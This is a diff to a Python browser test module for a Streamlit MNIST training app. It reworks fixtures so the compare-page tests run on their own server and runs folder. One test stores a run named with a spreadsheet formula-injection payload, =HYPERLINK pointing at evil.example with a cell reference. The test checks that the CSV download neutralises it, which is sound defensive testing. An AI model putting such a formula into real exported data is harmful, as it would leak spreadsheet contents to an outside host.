@@ -11,18 +11,30 @@ from core.nn.config import TrainingConfig
 from core.nn.training import train_model
 from core.runs import RunStore
 from testkit.browser import wait_for_app
-from testkit.harness import page_errors
+from testkit.harness import page_errors, start_streamlit, stop_streamlit
 
 pytestmark = pytest.mark.browser
 
 
 @pytest.fixture(scope="module")
-def server_with_runs(streamlit_server, server_runs_dir, mnist):
-    store = RunStore(server_runs_dir)
+def compare_runs_dir(tmp_path_factory, mnist) -> Path:
+    """Three small networks' runs, stored before the module's server starts."""
+    folder = tmp_path_factory.mktemp("compare-runs")
+    store = RunStore(folder)
     for units in (16, 32, 64):
         config = TrainingConfig(hidden_layers=(units,), epochs=1, train_size=500)
         save_training_result(store, train_model(config, mnist), mnist, name=f"browser net {units}")
-    return streamlit_server
+    return folder
+
+
+@pytest.fixture(scope="module")
+def server_with_runs(tmp_path_factory, compare_runs_dir):
+    """A server of the module's own: the run in focus is the newest, which on the shared
+    server could be one that another test's job stored meanwhile."""
+    folder = tmp_path_factory.mktemp("compare-server")
+    process, base_url, _ = start_streamlit(folder, {"MNIST_STUDIO_RUNS_DIR": str(compare_runs_dir)})
+    yield base_url
+    stop_streamlit(process)
 
 
 def test_compare_page_shows_table_scatter_and_downloads_a_configuration(
@@ -103,13 +115,13 @@ HOSTILE_NAME = '=HYPERLINK("https://evil.example/?q="&A1, "click")'
 
 
 def test_the_runs_table_downloads_as_csv_with_formulas_neutralised(
-    server_with_runs, server_runs_dir, page, mnist
+    server_with_runs, compare_runs_dir, page, mnist
 ):
     """Before, the table's own "Download as CSV" wrote a name like =HYPERLINK(...) as is."""
     import csv
     import io
 
-    store = RunStore(server_runs_dir)
+    store = RunStore(compare_runs_dir)
     config = TrainingConfig(hidden_layers=(8,), epochs=1, train_size=300)
     run_id = save_training_result(store, train_model(config, mnist), mnist, name=HOSTILE_NAME)
     try:
@@ -136,7 +148,6 @@ def test_no_page_sends_the_visitor_id_to_the_browser(browser, tmp_path, mnist, o
     here every frame the server sends on every page and tab is searched for it."""
     import ui
     from core.visitors.identity import COOKIE_NAME
-    from testkit.harness import start_streamlit, stop_streamlit
 
     process, base_url, _ = start_streamlit(tmp_path)
     context = browser.new_context(viewport={"width": 1400, "height": 1000})
